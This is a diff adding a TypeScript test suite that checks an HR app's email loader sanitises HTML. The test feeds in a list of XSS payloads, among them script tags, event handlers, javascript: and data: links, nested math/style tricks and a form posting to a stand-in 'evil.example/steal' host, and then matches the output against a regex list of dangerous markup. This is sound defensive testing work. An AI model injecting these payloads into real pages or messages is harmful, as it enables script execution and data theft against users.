@@ -1,0 +1,108 @@
+import { mkdirSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { ensureAdmin } from '@tb/command-api';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { startTestApp, type TestApp, TestClient } from '../testing.ts';
+
+/**
+ * An email's HTML is a stranger's markup: every XSS payload in it comes out of Load Emails neutralised (no
+ * script, no event handler, no javascript:/data: address, no style, frame, form or meta refresh), while the
+ * readable text stays.
+ */
+const PAYLOADS = [
+  '<script>alert("s1")</script>',
+  '<img src=x onerror="alert(\'s2\')">',
+  '<svg onload="alert(\'s3\')"><circle r="1"/></svg>',
+  '<a href="javascript:alert(\'s4\')">click me</a>',
+  '<a href="JaVaScRiPt&#58;alert(\'s5\')">click too</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
+  '<p style="background:url(javascript:alert(\'s6\'));width:expression(alert(\'s7\'))">styled text</p>',
+  '<iframe src="https://evil.example/"></iframe>',
+  '<form action="https://evil.example/steal"><input name="p"><button>Go</button></form>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<object data="evil.swf"></object><embed src="evil.swf">',
+  '<body onload="alert(\'s8\')"><div onclick="alert(\'s9\')">plain words</div></body>',
+  '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert("s10")></style></mglyph></table></mtext></math>',
+  '<a href="https://example.com/portfolio">my portfolio</a>',
+];
+
+function eml(id: number, html: string): string {
+  return [
+    'From: Mallory <mallory@example.com>',
+    'To: hr@talentbridge.example',
+    `Subject: Application ${id} <script>alert("subject")</script>`,
+    `Message-ID: <xss-${id}@example.com>`,
+    `Date: ${new Date().toUTCString()}`,
+    'MIME-Version: 1.0',
+    'Content-Type: text/html; charset=utf-8',
+    'Content-Transfer-Encoding: base64',
+    '',
+    Buffer.from(`<html><head><title>t</title></head><body>${html}</body></html>`).toString('base64'),
+    '',
+  ].join('\r\n');
+}
+
+let app: TestApp;
+let admin: TestClient;
+
+beforeAll(async () => {
+  app = await startTestApp();
+  await ensureAdmin(app.runtime.store, { email: 'xss-boss@example.com', password: 'secret12' });
+  admin = new TestClient(app.url);
+  expect((await admin.post('/api/auth/login', { email: 'xss-boss@example.com', password: 'secret12' })).status).toBe(
+    200,
+  );
+  const dropDir = join(app.dataDir, 'inbox');
+  mkdirSync(dropDir, { recursive: true });
+  // Each payload alone (one email each) and all of them together.
+  PAYLOADS.forEach((payload, i) => {
+    writeFileSync(join(dropDir, `xss-${i}.eml`), eml(i, payload));
+  });
+  writeFileSync(join(dropDir, 'xss-all.eml'), eml(999, PAYLOADS.join('\n')));
+});
+afterAll(() => app?.stop());
+
+const DANGER = [
+  /<script/i,
+  /<style/i,
+  /<iframe/i,
+  /<form/i,
+  /<input/i,
+  /<meta/i,
+  /<object/i,
+  /<embed/i,
+  /<svg/i,
+  /<math/i,
+  /<base/i,
+  /<link/i,
+  /<img/i,
+  /\son\w+\s*=/i,
+  /javascript:/i,
+  /data:/i,
+  /expression\(/i,
+  /style=/i,
+  /evil\.example/i,
+];
+
+describe('email HTML in Load Emails', () => {
+  it('comes out with every XSS payload neutralised and the readable text kept', async () => {
+    const answer = await admin.post('/api/admin/load-emails', {});
+    expect(answer.status).toBe(200);
+    const emails = answer.body.emails as { subject: string; body: string }[];
+    expect(emails).toHaveLength(PAYLOADS.length + 1);
+    for (const email of emails) {
+      for (const danger of DANGER) expect(email.body, `${email.subject}: ${email.body}`).not.toMatch(danger);
+    }
+    const all = emails.find((e) => e.subject.startsWith('Application 999'))?.body ?? '';
+    for (const words of ['click me', 'styled text', 'plain words', 'my portfolio']) expect(all).toContain(words);
+    expect(all).toContain('<a href="https://example.com/portfolio">my portfolio</a>');
+    // The subject is plain text, shown as text by the web app: it is passed through, not interpreted.
+    expect(emails.some((e) => e.subject.includes('<script>'))).toBe(true);
+  });
+
+  it('answers the same neutralised bodies on a second load (read models hold the sanitised HTML)', async () => {
+    const again = (await admin.post('/api/admin/load-emails', {})).body.emails as { body: string }[];
+    for (const email of again) for (const danger of DANGER) expect(email.body).not.toMatch(danger);
+  });
+});
